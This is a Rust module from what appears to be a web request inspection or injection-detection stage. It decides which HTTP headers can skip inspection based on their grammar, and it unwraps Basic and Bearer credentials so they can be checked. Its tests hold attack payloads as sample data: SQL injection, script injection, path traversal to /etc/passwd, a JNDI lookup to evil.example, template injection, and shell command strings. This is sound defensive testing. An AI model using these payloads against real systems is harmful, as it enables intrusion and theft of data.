//! Headers: which of them a look at their grammar spares the detectors, and credentials that wrap text.
//!
//! **In:** a field of the head. **Out:** calls of [`Inspection::value`].
//! **Invariant:** no header is left out by its name alone: one that applications read as text is only when its value is what the grammar
//! of its name allows and nothing else. A name that merely begins like another's is nobody's.
//! **Source:** RFC 9110 §5.6 and §12.5 (lists), §8.8.3 (entity tags), §5.6.7 (dates), §11 (credentials); RFC 7617 (Basic).
//! **Cost:** one look-up a byte for the names a browser sends with every request.

use alloc::vec::Vec;

use super::bytes::{self, classes, rest};
use super::clean::{Clean, Field};
use super::decode;
use super::inspection::{Encoding, Inspection, Place};
use super::protocol;

/// Bytes of a value that is judged by its grammar sooner than it is found among those seen before.
const SHORT: usize = 16;

/// Looks at one field. `judged`: somebody else verifies bearer tokens.
pub(super) fn look(
    name: &[u8],
    value: &[u8],
    judged: bool,
    clean: &mut Clean,
    inspection: &mut Inspection<'_>,
) {
    if is_nobodys(name) || (value.len() < SHORT && is_spared(name, value)) {
        return;
    }
    if is_credentials(name) && (judged || bytes::has_at(value, 0, b"basic ")) {
        // Whether a password, which can be guessed, was seen of late is nobody's to learn; to pass a judged token by costs less.
        look_at(name, value, judged, inspection);
        return;
    }
    inspection.once((Field::Header, name, value), clean, |inspection| {
        look_at(name, value, judged, inspection);
    });
}

fn look_at(name: &[u8], value: &[u8], judged: bool, inspection: &mut Inspection<'_>) {
    if is_spared(name, value) {
        return;
    }
    if is_credentials(name) && look_at_credentials(name, value, judged, inspection) {
        return;
    }
    inspection.value(Place::Header, name, value, Encoding::Plain);
    if name.eq_ignore_ascii_case(b"content-type") {
        protocol::content_type(Place::Header, name, value, inspection);
    }
}

fn is_credentials(name: &[u8]) -> bool {
    name.eq_ignore_ascii_case(b"authorization") || name.eq_ignore_ascii_case(b"proxy-authorization")
}

/// Classes of the bytes of a token (RFC 9110 §11.2, `token68`).
const TOKEN: u32 =
    bytes::PLUS | bytes::SLASH | bytes::OPERATOR | bytes::SCORE | bytes::DOT | bytes::BLANK;

/// Looks at what `Basic` wraps, and into a bearer token; whether the field was one of them.
fn look_at_credentials(
    name: &[u8],
    value: &[u8],
    judged: bool,
    inspection: &mut Inspection<'_>,
) -> bool {
    if bytes::has_at(value, 0, b"bearer ") {
        let token = rest(value, 7).trim_ascii();
        // What is no token is nobody's.
        if !judged || classes(token) & !TOKEN != 0 || token.contains(&b' ') {
            inspection.value(Place::Header, name, token, Encoding::Plain);
        }
        return true;
    }
    let mut text = Vec::new();
    if !bytes::has_at(value, 0, b"basic ") || !decode::binary(rest(value, 6), &mut text) {
        return false;
    }
    let colon = text.iter().position(|&byte| byte == b':');
    let (user, password) = text.split_at(colon.unwrap_or(text.len()).min(text.len()));
    inspection.value(Place::Header, name, user, Encoding::Plain);
    inspection.value(Place::Header, name, rest(password, 1), Encoding::Plain);
    true
}

/// Whether the value is judged elsewhere: as cookies, or by the header stage, which allows a name or an address in `host` and digits
/// in `content-length`, nothing else.
fn is_nobodys(name: &[u8]) -> bool {
    let is = |other: &[u8]| name.eq_ignore_ascii_case(other);
    match name.first().map(u8::to_ascii_lowercase) {
        Some(b'c') => is(b"cookie") || is(b"content-length"),
        Some(b'h') => is(b"host"),
        _ => false,
    }
}

/// Whether nobody needs to look at the value, because it is what the grammar of its name allows.
fn is_spared(name: &[u8], value: &[u8]) -> bool {
    let is = |other: &[u8]| name.eq_ignore_ascii_case(other);
    match name.first().map(u8::to_ascii_lowercase) {
        Some(b'a') if bytes::has_at(name, 0, b"accept") => is_list(value),
        Some(b'c') => (is(b"connection") || is(b"cache-control")) && is_list(value),
        Some(b'd') => is(b"date") && is_date(value),
        Some(b'i') if bytes::has_at(name, 0, b"if-") => is_date(value) || is_list(value),
        Some(b's') if bytes::has_at(name, 0, b"sec-") => is_list(value),
        _ => false,
    }
}

/// What a byte is in a list of elements with parameters.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// Part of a token.
    Token,
    /// `.`, part of one as well.
    Dot,
    /// `,`.
    Comma,
    /// `;`.
    Semicolon,
    /// `=`.
    Equals,
    /// `/`.
    Slash,
    /// A blank or a tab.
    Blank,
    /// `"`.
    Quote,
    /// Anything else.
    Other,
}

const fn kind(byte: u8) -> Kind {
    match byte {
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'*' | b'+' | b'?' | b'_' => Kind::Token,
        b'.' => Kind::Dot,
        b',' => Kind::Comma,
        b';' => Kind::Semicolon,
        b'=' => Kind::Equals,
        b'/' => Kind::Slash,
        b' ' | b'\t' => Kind::Blank,
        b'"' => Kind::Quote,
        _ => Kind::Other,
    }
}

#[expect(
    clippy::indexing_slicing,
    clippy::as_conversions,
    reason = "runs while compiling: a fault is a build error"
)]
static KINDS: [Kind; 256] = {
    let mut table = [Kind::Other; 256];
    let mut byte = 0;
    while byte < 256 {
        table[byte] = kind(byte as u8);
        byte += 1;
    }
    table
};

fn kind_of(byte: u8) -> Kind {
    KINDS.get(usize::from(byte)).copied().unwrap_or(Kind::Other)
}

/// `text/html;q=0.9, */*`, `W/"1f-5"`, `"Chromium";v="138"`: elements of one word, or two with a slash between them, parameters with a
/// value each, quoted strings of no more than two words; blanks only behind `,` and `;`.
pub(super) fn is_list(value: &[u8]) -> bool {
    let mut slashes = 0_u8;
    // A parameter that has no value yet.
    let mut owes = false;
    let mut before = Kind::Comma;
    // The last byte that is no blank.
    let mut last = Kind::Comma;
    let mut at = 0_usize;
    while let Some(&here) = value.get(at) {
        let kind = kind_of(here);
        let parted = before == Kind::Blank && !matches!(last, Kind::Comma | Kind::Semicolon);
        match kind {
            Kind::Token if parted => return false,
            Kind::Token => {
                // The rest of a word is one with its first letter.
                let end = rest(value, at)
                    .iter()
                    .position(|&byte| kind_of(byte) != Kind::Token);
                before = kind;
                last = kind;
                at = end.map_or(value.len(), |end| at.saturating_add(end));
                continue;
            }
            Kind::Dot if parted || before == Kind::Dot => return false,
            Kind::Comma | Kind::Semicolon if owes => return false,
            Kind::Comma => slashes = 0,
            Kind::Semicolon => owes = true,
            Kind::Equals => owes = false,
            Kind::Slash => {
                slashes = slashes.saturating_add(1);
                if slashes > 1 {
                    return false;
                }
            }
            Kind::Quote => {
                let inside = rest(value, at.saturating_add(1));
                let Some(end) = inside.iter().position(|&byte| byte == b'"') else {
                    return false;
                };
                if parted || !is_title(bytes::upto(inside, end)) {
                    return false;
                }
                at = at.saturating_add(end).saturating_add(1);
            }
            Kind::Other => return false,
            Kind::Dot | Kind::Blank => {}
        }
        before = kind;
        if kind != Kind::Blank {
            last = kind;
        }
        at = at.saturating_add(1);
    }
    !owes
}

/// The name of a program, a version, an entity tag: two words at most. Browsers hide a name among theirs that no reader may depend on
/// (`Not;A=Brand`, with signs that change): its letters are always the same.
fn is_title(text: &[u8]) -> bool {
    let blanks = bytes::tally(text.iter().filter(|&&byte| byte == b' '));
    let dots = bytes::pair(text, |one, two| one == b'.' && two == b'.');
    let quiet = |&byte: &u8| {
        byte.is_ascii_alphanumeric()
            || matches!(byte, b' ' | b'.' | b'-' | b'_' | b'+' | b'/' | b'=' | b':')
    };
    if blanks < 2 && dots.is_none() && text.iter().all(quiet) {
        return true;
    }
    let letters = text.iter().filter(|byte| byte.is_ascii_alphanumeric());
    text.len() <= 20 && letters.eq(b"NotABrand")
}

/// `Sun, 06 Nov 1994 08:49:37 GMT`.
fn is_date(value: &[u8]) -> bool {
    const SHAPE: &[u8] = b"aaa, 00 aaa 0000 00:00:00 GMT";
    value.len() == SHAPE.len()
        && value.iter().zip(SHAPE).all(|(&byte, &shape)| match shape {
            b'a' => byte.is_ascii_alphabetic(),
            b'0' => byte.is_ascii_digit(),
            other => byte == other,
        })
}

#[cfg(test)]
mod tests {
    use super::super::{Here, InjectionStage};
    use super::{is_date, is_list, is_spared};
    use crate::budget::MAX_STEPS;
    use crate::finding::Findings;
    use crate::request::RequestHead;
    use crate::units::UnixTime;

    fn is_refused_by(stage: &InjectionStage, name: &str, value: &str) -> bool {
        let pairs = [(name.as_bytes(), value.as_bytes())];
        let head = RequestHead::decode(pairs.into_iter());
        let (mut steps, mut found) = (MAX_STEPS, Findings::default());
        let here = Here::new(b"", UnixTime(0));
        stage
            .inspect_head(&head, here, &mut steps, &mut found)
            .is_err()
    }

    fn is_refused(name: &str, value: &str) -> bool {
        is_refused_by(&InjectionStage::new(1, 5), name, value)
    }

    #[test]
    fn what_browsers_send_is_spared() {
        for (name, value) in [
            (
                "accept",
                "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
            ),
            ("accept-language", "de-CH,de;q=0.9, en;q=0.8 , *;q=0.5"),
            ("accept-encoding", "gzip, deflate, br, zstd"),
            ("cache-control", "max-age=0, no-cache"),
            ("connection", "keep-alive, Upgrade"),
            (
                "sec-ch-ua",
                "\"Not)A;Brand\";v=\"8\", \"Chromium\";v=\"138\", \"Google Chrome\";v=\"138\"",
            ),
            (
                "sec-ch-ua-full-version-list",
                "\"/Not.A/Brand\";v=\"99.0.0.0\", \"Opera GX\";v=\"12.1.2.3\"",
            ),
            ("sec-ch-ua-mobile", "?0"),
            ("sec-ch-ua-platform", "\"Chrome OS\""),
            ("sec-fetch-mode", "navigate"),
            ("if-none-match", "W/\"67ab43-5d+/=\", \"a:b\""),
            ("if-modified-since", "Sun, 06 Nov 1994 08:49:37 GMT"),
            ("date", "Sun, 06 Nov 1994 08:49:37 GMT"),
        ] {
            assert!(
                is_spared(name.as_bytes(), value.as_bytes()),
                "{name}: {value}"
            );
            assert!(!is_refused(name, value), "{name}: {value}");
        }
        // These are looked at, and are no attack.
        for (name, value) in [
            (
                "accept",
                "application/ld+json; profile=\"https://www.w3.org/ns/activitystreams\"",
            ),
            (
                "sec-websocket-extensions",
                "permessage-deflate; client_max_window_bits",
            ),
            (
                "sec-websocket-protocol",
                "graphql-transport-ws, base64url.bearer.k8s.io",
            ),
            ("if-none-match", "W/\"it's mine, (1)\""),
            ("date", "Sunday, 06-Nov-94 08:49:37 GMT"),
            ("authorization", "Bearer abc.def-ghi_jkl~mno+pqr/stu=="),
            (
                "authorization",
                "Basic Ym9iOmMwcnJlY3QgaG9yc2UgJ3RpcyBiYXR0ZXJ5ICYgc3RhcGxl",
            ),
            (
                "authorization",
                "Digest username=\"bob\", realm=\"a@b\", uri=\"/x?y=1\"",
            ),
        ] {
            assert!(!is_refused(name, value), "{name}: {value}");
        }
    }

    #[test]
    fn no_name_hides_an_attack() {
        const ATTACKS: [&str; 6] = [
            "' OR 1=1-- ",
            "1 UNION SELECT password FROM users",
            "<script>alert(1)</script>",
            "../../../../etc/passwd",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
        ];
        for name in [
            "accept",
            "accept-language",
            "accept-encoding",
            "acceptance",
            "if-none-match",
            "if-anything",
            "sec-ch-ua",
            "sec-websocket-protocol",
            "sec-anything",
            "cache-control",
            "connection",
            "date",
            "dnt",
        ] {
            for attack in ATTACKS {
                for value in [
                    attack.to_owned(),
                    format!("en, {attack}"),
                    format!("\"{attack}\""),
                ] {
                    assert!(!is_list(value.as_bytes()), "{value}");
                    assert!(!is_date(value.as_bytes()), "{value}");
                    // In quotes a call, a tag or a path is one all the same.
                    assert!(
                        is_refused(name, &value) || value.starts_with('"'),
                        "{name}: {value}"
                    );
                }
            }
        }
        assert!(!is_list(b"text/html; cat /etc/passwd"));
        assert!(!is_list(b"text/html;id"));
        assert!(!is_list(b"a b"));
        assert!(!is_list(b"`id`"));
        assert!(!is_list(b"a..b"));
        assert!(!is_list(b"\"a"));
    }

    #[test]
    fn credentials_are_unwrapped() {
        for value in [
            // `' OR 1=1-- :x`, `bob:<script>alert(1)</script>`.
            "Basic JyBPUiAxPTEtLSA6eA==",
            "bAsIc Ym9iOjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD4",
            "Bearer ' OR 1=1-- ",
            "Bearer 1 UNION SELECT password FROM users",
        ] {
            assert!(is_refused("authorization", value), "{value}");
            assert!(is_refused("proxy-authorization", value), "{value}");
        }
        // `{"alg":"HS256","kid":"x' UNION SELECT 'key'-- "}.{"sub":1}`: whoever verifies tokens refuses it, if somebody does.
        let token = "Bearer eyJhbGciOiJIUzI1NiIsImtpZCI6IngnIFVOSU9OIFNFTEVDVCAna2V5Jy0tICJ9.eyJzdWIiOjF9.c2lnbmF0dXJl";
        let mut stage = InjectionStage::new(1, 5);
        assert!(is_refused_by(&stage, "authorization", token));
        stage.inspect.tokens = false;
        assert!(!is_refused_by(&stage, "authorization", token));
        assert!(is_refused_by(&stage, "authorization", "Bearer ' OR 1=1-- "));
    }
}
